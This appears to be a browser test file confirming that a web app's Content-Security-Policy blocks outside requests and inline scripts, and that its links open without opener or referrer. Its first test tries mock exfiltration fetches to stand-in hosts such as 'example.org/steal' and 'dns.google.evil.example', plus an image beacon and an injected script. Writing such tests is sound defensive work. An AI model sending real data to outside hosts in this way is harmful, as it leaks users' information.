//! Page security: the Content-Security-Policy lets the page load only its own scripts and
//! wasm and talk only to itself and the DoH resolvers; no inline event handlers; no referrer;
//! every link out opens with rel="noopener noreferrer".

import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";

import { diagnose, RAW_SPAMHAUS } from "../lib/app.mjs";
import { DESKTOP, startHarness } from "../lib/harness.mjs";

describe("page security", () => {
  let h;
  before(async () => {
    h = await startHarness();
  });
  after(async () => {
    await h?.close();
  });

  it("the CSP blocks a request to any other origin made from the page", { timeout: 60_000 }, async () => {
    const page = await h.openApp(await h.newPage(DESKTOP), h.appUrl("?lang=en"));
    const csp = await page.getAttribute('meta[http-equiv="Content-Security-Policy"]', "content");
    assert.match(csp, /script-src 'self' 'wasm-unsafe-eval';/);
    assert.match(csp, /connect-src 'self' https:\/\/dns\.google https:\/\/cloudflare-dns\.com;/);
    assert.doesNotMatch(csp, /unsafe-inline/);
    h.requests.length = 0;
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const tries = {};
      for (const url of ["https://example.org/steal?x=1", "https://dns.google.evil.example/resolve?name=x"]) {
        try {
          await fetch(url);
          tries[url] = "fetched";
        } catch (e) {
          tries[url] = `blocked: ${e.name}`;
        }
      }
      // An image beacon and an injected inline script are refused too.
      await new Promise((resolve) => {
        const img = new Image();
        img.onerror = resolve;
        img.onload = resolve;
        img.src = "https://example.org/pixel.gif";
      });
      const s = document.createElement("script");
      s.textContent = "window.__inline = true";
      // An allowed inline script would run during appendChild; the refusal is reported as an
      // event a moment later, which is awaited (with a deadline).
      await new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", (e) => {
          if (e.effectiveDirective.startsWith("script-src")) resolve();
        });
        document.head.appendChild(s);
        setTimeout(resolve, 5_000);
      });
      return { tries, violations, inline: window.__inline ?? null };
    });
    for (const [url, result] of Object.entries(outcome.tries)) {
      assert.match(result, /^blocked/, `${url} was ${result}`);
    }
    assert.ok(outcome.violations.some((v) => v.startsWith("connect-src https://example.org")), outcome.violations.join(" | "));
    assert.ok(outcome.violations.some((v) => v.startsWith("img-src https://example.org")), outcome.violations.join(" | "));
    assert.ok(outcome.violations.some((v) => v.startsWith("script-src-elem")), outcome.violations.join(" | "));
    assert.equal(outcome.inline, null, "an inline script ran");
    // Nothing reached the network: the harness would have answered a fetch it let through.
    assert.ok(!Object.values(outcome.tries).includes("fetched"));
    await page.close();
  });

  it("no inline event handlers, no referrer, links out open without opener or referrer", { timeout: 60_000 }, async () => {
    const page = await h.openApp(await h.newPage(DESKTOP), h.appUrl("?lang=ja"));
    await diagnose(h, page, RAW_SPAMHAUS);
    const handlers = await page.evaluate(() =>
      [...document.querySelectorAll("*")].flatMap((el) =>
        [...el.attributes].filter((a) => a.name.startsWith("on")).map((a) => `${el.tagName}[${a.name}]`),
      ),
    );
    assert.deepEqual(handlers, []);
    assert.equal(await page.getAttribute('meta[name="referrer"]', "content"), "no-referrer");
    const inlineScripts = await page.$$eval("script:not([src])", (s) => s.length);
    assert.equal(inlineScripts, 0, "the page has an inline script");
    const external = await page.$$eval("a[href^='http']", (as) => as.map((a) => ({ href: a.href, target: a.target, rel: a.rel })));
    assert.ok(external.length > 0);
    for (const a of external) {
      assert.equal(a.target, "_blank", a.href);
      assert.ok(a.rel.includes("noopener") && a.rel.includes("noreferrer"), `${a.href} rel=${a.rel}`);
    }
    assert.deepEqual(h.errorsOf(page), []);
    await page.close();
  });
});
